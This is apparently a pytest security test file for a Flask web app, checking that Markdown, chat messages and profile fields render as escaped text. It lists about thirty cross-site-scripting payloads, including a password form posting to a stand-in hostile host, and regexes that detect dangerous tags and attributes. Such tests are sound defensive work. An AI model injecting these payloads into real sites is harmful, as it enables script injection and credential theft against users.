"""What people write is shown as they wrote it: never as markup of ours."""

import re

import pytest
from flask import Flask

from pst.knowledge.article import markup
from tests.security.conftest import DESK, MINE, Office

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://jahat.test/pelacak.gif)",
    "<style>*{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=https://jahat.test><input name=password></form>",
    "<base href=https://jahat.test/>",
    "<meta http-equiv=refresh content='0;url=https://jahat.test'>",
    "<object data=x></object><embed src=x>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=/keluar hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1) data-hx-post=/keluar>x</div>",
    "<<script>script>alert(1)<</script>/script>",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "{{ 7 * 191 }}{% raw %}",
    "[x]: javascript:alert(1)\n[x]",
    '<a href="https://contoh.go.id" target=_blank onclick=alert(1)>x</a>',
)
# None of our pages has these in its main part, but for two frames of our own.
STRANGE = re.compile(
    r"<(script|svg|iframe|object|embed|math|base|meta|style|img src=x)",
)
OUR_FRAME = re.compile(
    r'<iframe class="latest" title="Pesan baru"'
    r' src="/konsultasi/KS-2026-\d{6}/terbaru\?sesudah=\d+"></iframe>'
    r'|<iframe class="latest" name="pantau" title="Pesan baru yang dipantau"></iframe>'
)
FORBIDDEN = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|style|base|meta|svg|math|noscript)\b"
    r"|<[^>]*\s(on\w+|style|hx-[\w:]+|data-hx-[\w:]+|srcdoc)\s*="
    r"|<[^>]*(href|src|action)\s*=\s*[\"']?\s*(javascript|vbscript|data):",
    re.I,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_comes_out_harmless(app: Flask, text: str):
    with app.test_request_context():
        made = str(markup.html(text))

    assert not FORBIDDEN.search(made), made
    assert "jahat.test" not in "".join(re.findall(r"<img[^>]*>", made)), made


def test_hostile_words_in_a_conversation_are_only_words(office: Office):
    for text in HOSTILE:
        office["siti"].post(f"{MINE}/pesan", {"body": text})

    for name, path in (("siti", MINE), ("budi", DESK)):
        shown = main_of(office[name].get(path).text)
        assert not STRANGE.search(shown)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
        assert "1337" not in shown, "templates do not run what people write"
    for name in ("siti", "budi"):
        frame = office[name].get(f"{MINE}/terbaru").text.partition("<body")[2]
        assert not STRANGE.search(frame)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in frame
    assert office["budi"].get("/petugas").status_code == 200


def test_hostile_words_in_a_profile_are_only_words(office: Office):
    siti, andi, budi = (office[name] for name in ("siti", "andi", "budi"))

    for text in HOSTILE:
        # An address has no place in a name: that is refused, and nothing kept.
        name = text.replace("\n", " ").replace("://", ":")
        profile = {
            "name": name,
            "institution": text.replace("\n", " "),
            "institution_kind": "pemda",
            "occupation": "asn",
        }
        if "://" in text:
            refused = siti.post("/akun/profil", {**profile, "name": text})
            assert refused.status_code == 422, text
            assert not STRANGE.search(main_of(refused.text)), text
        assert siti.post("/akun/profil", profile).status_code == 303, text
        for shown in (
            siti.get("/akun").text,
            andi.get("/admin/pengguna").text,
            andi.get("/admin/audit").text,
            budi.get(DESK).text,
            budi.get("/petugas").text,
        ):
            assert not STRANGE.search(main_of(shown)), text


def main_of(shown: str) -> str:
    """Take the part of a page that is about something."""
    main = shown.partition("<main")[2].partition("</main>")[0]
    return OUR_FRAME.sub("", main, count=2)
